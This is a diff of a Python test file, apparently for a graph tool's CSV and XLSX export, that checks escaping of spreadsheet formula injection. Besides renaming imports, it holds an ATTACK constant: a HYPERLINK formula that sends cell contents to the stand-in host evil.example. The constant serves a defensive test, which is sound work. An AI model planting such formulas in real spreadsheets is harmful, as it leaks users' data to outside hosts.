@@ -19,12 +19,11 @@ import networkx as nx
 import pytest
 from openpyxl import load_workbook
 
-from api.cli import main
-from graph.embedded import EmbeddedStore
-from importers.outputs import csv_cell, formula_like, unquote, xlsx_cell
-from schema import Edge, Node
-from tests.test_export_formats import SUFFIX, _reimport
-from tests.test_import_tables import graph
+from coco_atlas.api.cli import main
+from coco_atlas.graph.embedded.store import EmbeddedStore
+from coco_atlas.importers.outputs import csv_cell, formula_like, unquote, xlsx_cell
+from coco_atlas.schema import Edge, Node
+from tests.importing import SUFFIX, graph, reimport
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -154,7 +153,7 @@ def test_other_formats_never_add_an_apostrophe(fmt: str, hostile: Path, tmp_path
 def test_exported_formula_texts_read_back_unchanged(fmt: str, hostile: Path,
                                                    tmp_path: Path) -> None:
     out = _export(hostile, fmt, tmp_path / "out")
-    assert _reimport(fmt, out, tmp_path / "back.db") == 0
+    assert reimport(fmt, out, tmp_path / "back.db") == 0
     back, edges = graph(tmp_path / "back.db")
     for key, text in EXACT.items():
         props = back[f"c-{key}"][1]
